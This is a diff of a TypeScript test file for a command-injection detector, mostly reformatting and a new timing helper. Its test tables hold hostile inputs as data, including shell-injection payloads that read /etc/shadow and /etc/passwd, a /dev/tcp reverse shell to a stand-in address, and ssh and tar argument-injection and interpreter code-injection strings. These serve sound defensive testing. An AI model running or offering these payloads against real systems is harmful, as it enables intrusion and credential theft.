@@ -6,7 +6,16 @@ import fc from 'fast-check';
 import type { ExecEffect } from '../../model/effect.ts';
 import type { Detection } from '../../model/finding.ts';
 import type { Request, RequestInput } from '../../model/request.ts';
-import { makeExec, makeInput, makeProcess, makeRequest, makeShell, percentEncode, requestWith } from '../testing.ts';
+import {
+  fastestMs,
+  makeExec,
+  makeInput,
+  makeProcess,
+  makeRequest,
+  makeShell,
+  percentEncode,
+  requestWith,
+} from '../testing.ts';
 import { createCommandInjection } from './index.ts';
 
 function detect(effect: ExecEffect): Detection | undefined {
@@ -43,7 +52,11 @@ const ATTACKS: readonly (readonly [value: string, line: string, note: RegExp])[]
   ['a";id;"', 'ping "a";id;""', /`id` after `;`/],
   ['a > /srv/www/x.php', 'echo a > /srv/www/x.php', /redirects with `>` to `\/srv\/www\/x.php`/],
   ['a < /etc/shadow', 'wc a < /etc/shadow', /redirects with `<` to `\/etc\/shadow`/],
-  ['a;cat${IFS}/etc/passwd', 'ping a;cat${IFS}/etc/passwd', /starts a new command `cat\$\{IFS\}\/etc\/passwd`/],
+  [
+    'a;cat${IFS}/etc/passwd',
+    'ping a;cat${IFS}/etc/passwd',
+    /starts a new command `cat\$\{IFS\}\/etc\/passwd`/,
+  ],
   ['a;{id,-u}', 'ping a;{id,-u}', /after `;`/],
   ['a;(id)', 'ping a;(id)', /`id`/],
   ['a;x=1 id', 'ping a;x=1 id', /`id`/],
@@ -55,7 +68,11 @@ const ATTACKS: readonly (readonly [value: string, line: string, note: RegExp])[]
   ['cat /etc/passwd', 'timeout=5; cat /etc/passwd', /names the program `cat`/],
   ['../../bin/sh', '/opt/tools/../../bin/sh -v', /names the program/],
   ['a;sleep 5', 'ping a;sleep 5 2>&1', /`sleep`/],
-  ['a;bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', 'ping a;bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', /`bash`/],
+  [
+    'a;bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
+    'ping a;bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
+    /`bash`/,
+  ],
   [' a;id ', 'ping a;id', /`id` after `;`/],
 ];
 
@@ -75,16 +92,37 @@ for (const [value, line, note] of ATTACKS) {
 }
 
 /** The same payloads where the application keeps them data. */
-const PAYLOADS = ['127.0.0.1;id', "a';id;'", 'a|id', '$(id)', '`id`', 'a\nid', 'a && id', 'a > /tmp/x', '";id;"', "'$(id)'", 'a;id #'];
+const PAYLOADS = [
+  '127.0.0.1;id',
+  "a';id;'",
+  'a|id',
+  '$(id)',
+  '`id`',
+  'a\nid',
+  'a && id',
+  'a > /tmp/x',
+  '";id;"',
+  "'$(id)'",
+  'a;id #',
+];
 
-const SAFELY: readonly (readonly [name: string, exec: (value: string, by: readonly Request[]) => ExecEffect])[] = [
+const SAFELY: readonly (readonly [
+  name: string,
+  exec: (value: string, by: readonly Request[]) => ExecEffect,
+])[] = [
   ['single quotes', (value, by) => makeShell(`ping -c 1 '${value.replaceAll("'", "'\\''")}'`, by)],
   ["quoted as Python's shlex does", (value, by) => makeShell(`ping '${value.replaceAll("'", `'"'"'`)}'`, by)],
-  ['backslashes', (value, by) => makeShell(`ping ${value.replace(/[^\w\n]/g, '\\$&').replaceAll('\n', "'\n'")}`, by)],
+  [
+    'backslashes',
+    (value, by) => makeShell(`ping ${value.replace(/[^\w\n]/g, '\\$&').replaceAll('\n', "'\n'")}`, by),
+  ],
   ['double quotes, escaped', (value, by) => makeShell(`ping "${value.replace(/[$`"\\]/g, '\\$&')}"`, by)],
   ['one argument, no shell', (value, by) => makeExec(['ping', '-c', '1', value], by)],
   ['after --', (value, by) => makeExec(['grep', '-r', '--', value], by)],
-  ['a positional parameter', (value, by) => makeShell('ping "$1"', by, { argv: ['sh', '-c', 'ping "$1"', 'sh', value] })],
+  [
+    'a positional parameter',
+    (value, by) => makeShell('ping "$1"', by, { argv: ['sh', '-c', 'ping "$1"', 'sh', value] }),
+  ],
   ['the environment', (_, by) => makeShell('ping "$TARGET"', by)],
   ['a quoted here-document', (value, by) => makeShell(`cat <<'EOF'\n${value}\nEOF\n`, by)],
   ['env and one argument', (value, by) => makeExec(['env', 'A=1', 'ping', value], by)],
@@ -174,7 +212,10 @@ test('a shell in every dress', () => {
 
 test('a script is no shell command line, whatever its interpreter', () => {
   const request = requestWith('a;id');
-  const effect = makeExec(['./run.sh', '-c', 'a;id'], [request], { path: './run.sh', executable: '/usr/bin/dash' });
+  const effect = makeExec(['./run.sh', '-c', 'a;id'], [request], {
+    path: './run.sh',
+    executable: '/usr/bin/dash',
+  });
   assert.equal(verdict(effect), 'nothing');
 });
 
@@ -212,7 +253,10 @@ test('the request names the program', () => {
   assert.equal(verdict(makeExec(['x', '-v'], [requestWith('/bin/bash')], { path: '/bin/bash' })), EXPLOITED);
   assert.equal(verdict(makeExec(['bash'], [requestWith('bash')])), EXPLOITED);
   assert.equal(verdict(makeExec(['x'], [requestWith('/tmp/x')], { path: '/tmp/x' })), EXPLOITED);
-  assert.equal(verdict(makeExec(['x'], [requestWith('../../../bin/nc')], { path: '/opt/t/../../../bin/nc' })), EXPLOITED);
+  assert.equal(
+    verdict(makeExec(['x'], [requestWith('../../../bin/nc')], { path: '/opt/t/../../../bin/nc' })),
+    EXPLOITED,
+  );
   assert.equal(verdict(makeExec(['ffmpeg'], [requestWith('ffmpeg')])), 'nothing');
   assert.equal(verdict(makeExec(['x'], [requestWith('../t/x12')], { path: '/opt/t/../t/x12' })), 'nothing');
 });
@@ -223,7 +267,15 @@ test('argument injection', () => {
   assert.equal(verdict(makeExec(['ssh', '-oProxyCommand=id', 'host'], [request])), suspicious);
   assert.equal(verdict(makeExec(['ssh', '--', '-oProxyCommand=id'], [request])), 'nothing');
   assert.equal(verdict(makeExec(['ssh', 'x-oProxyCommand=id'], [request])), 'nothing');
-  assert.equal(verdict(makeExec(['tar', 'cf', 'x', '--checkpoint-action=exec=id'], [requestWith('--checkpoint-action=exec=id')])), suspicious);
+  assert.equal(
+    verdict(
+      makeExec(
+        ['tar', 'cf', 'x', '--checkpoint-action=exec=id'],
+        [requestWith('--checkpoint-action=exec=id')],
+      ),
+    ),
+    suspicious,
+  );
   const detection = detect(makeExec(['ssh', '-oProxyCommand=id', 'host'], [request]));
   assert.deepEqual(detection?.cwe, [88]);
   assert.equal(detection?.evidence[0]?.sink, 'argv[1]');
@@ -233,8 +285,16 @@ test('argument injection', () => {
 
 test('code injection into interpreters', () => {
   const table: readonly (readonly [argv: readonly string[], value: string, expected: string])[] = [
-    [['python3', '-c', "print('a');import os;os.system('id')#')"], "a');import os;os.system('id')#", 'EXPLOITED code-injection'],
-    [['node', '-e', 'f("a");require("child_process").exec("id");("")'], 'a");require("child_process").exec("id");("', 'EXPLOITED code-injection'],
+    [
+      ['python3', '-c', "print('a');import os;os.system('id')#')"],
+      "a');import os;os.system('id')#",
+      'EXPLOITED code-injection',
+    ],
+    [
+      ['node', '-e', 'f("a");require("child_process").exec("id");("")'],
+      'a");require("child_process").exec("id");("',
+      'EXPLOITED code-injection',
+    ],
     [['php', '-r', 'echo strlen(system("id"));'], 'system("id")', 'SUSPICIOUS code-injection'],
     [['perl', '-we', 'print "@{[`id`]}"'], '@{[`id`]}', 'SUSPICIOUS code-injection'],
     [['ruby', '-e', 'puts "#{`id`}"'], '#{`id`}', 'SUSPICIOUS code-injection'],
@@ -279,7 +339,9 @@ test('an ambiguous effect names the one request that carries the bytes', () => {
 });
 
 test('identical attacks in flight: proof without a name', () => {
-  const detection = detect(makeShell('ping a;id', [requestWith('a;id'), requestWith('b'), requestWith('a;id')]));
+  const detection = detect(
+    makeShell('ping a;id', [requestWith('a;id'), requestWith('b'), requestWith('a;id')]),
+  );
   assert.equal(detection?.verdict, 'EXPLOITED');
   assert.equal(detection.request, null);
   assert.match(detection.evidence[0]?.note ?? '', /2 requests in flight/);
@@ -301,7 +363,10 @@ test('a body that is still arriving brings needles later', () => {
   const inputs: RequestInput[] = [];
   let body = new Uint8Array(0);
   const plain = makeRequest();
-  const message = Object.defineProperties({ ...plain.message }, { body: { get: () => body }, inputs: { get: () => inputs } });
+  const message = Object.defineProperties(
+    { ...plain.message },
+    { body: { get: () => body }, inputs: { get: () => inputs } },
+  );
   const request: Request = { ...plain, message };
   const detector = createCommandInjection();
   assert.deepEqual(detector.onEffect?.(makeShell('ping a;id', [request])), []);
@@ -312,7 +377,9 @@ test('a body that is still arriving brings needles later', () => {
 
 const bytes = fc.uint8Array({ maxLength: 120 }).map((value) => Buffer.from(value).toString('latin1'));
 const syntax = fc
-  .array(fc.constantFrom("'", '"', ';', '$(', ')', '`', '\n', ' ', 'id', '-x', '/', '..', '\\'), { maxLength: 12 })
+  .array(fc.constantFrom("'", '"', ';', '$(', ')', '`', '\n', ' ', 'id', '-x', '/', '..', '\\'), {
+    maxLength: 12,
+  })
   .map((pieces) => pieces.join(''));
 const value = fc.oneof(bytes, syntax);
 
@@ -348,17 +415,28 @@ test('a value in single quotes is never more than nothing', () => {
 
 test('linear time: 8 KiB needles in 32 KiB of arguments', () => {
   const half = 'a'.repeat(4096);
-  const needles = ['a'.repeat(8192), `${half}b${half}`, `b${half}${half}`, ';a'.repeat(4096), `${';id'.repeat(2700)}x`, "'\"".repeat(4096)];
-  const texts = ['a'.repeat(32_000), ';a'.repeat(16_000), ';id'.repeat(10_000), "'\"".repeat(16_000), '$('.repeat(16_000)];
+  const needles = [
+    'a'.repeat(8192),
+    `${half}b${half}`,
+    `b${half}${half}`,
+    ';a'.repeat(4096),
+    `${';id'.repeat(2700)}x`,
+    '\'"'.repeat(4096),
+  ];
+  const texts = [
+    'a'.repeat(32_000),
+    ';a'.repeat(16_000),
+    ';id'.repeat(10_000),
+    '\'"'.repeat(16_000),
+    '$('.repeat(16_000),
+  ];
   for (const needle of needles) {
     for (const text of texts) {
       const request = makeRequest({ inputs: [makeInput(needle)] });
       const detector = createCommandInjection();
       for (const name of ['sh', 'python3']) {
         const effect = makeExec([name, '-c', text], [request]);
-        const start = performance.now();
-        detector.onEffect?.(effect);
-        const took = performance.now() - start;
+        const took = fastestMs(() => void detector.onEffect?.(effect));
         assert.ok(took < 50, `${needle.slice(0, 4)} in ${name} ${text.slice(0, 4)}: ${took.toFixed(1)} ms`);
       }
     }
@@ -367,8 +445,13 @@ test('linear time: 8 KiB needles in 32 KiB of arguments', () => {
 
 test('256 inputs in 32 KiB of shell', () => {
   const inputs = Array.from({ length: 400 }, (_, index) => makeInput(`;${index} a`));
-  const effect = makeShell(inputs.map(({ value: one }) => one).join('x').repeat(10).slice(0, 32_000), [makeRequest({ inputs })]);
-  const start = performance.now();
-  detect(effect);
-  assert.ok(performance.now() - start < 200);
+  const effect = makeShell(
+    inputs
+      .map(({ value: one }) => one)
+      .join('x')
+      .repeat(10)
+      .slice(0, 32_000),
+    [makeRequest({ inputs })],
+  );
+  assert.ok(fastestMs(() => void detect(effect)) < 200);
 });
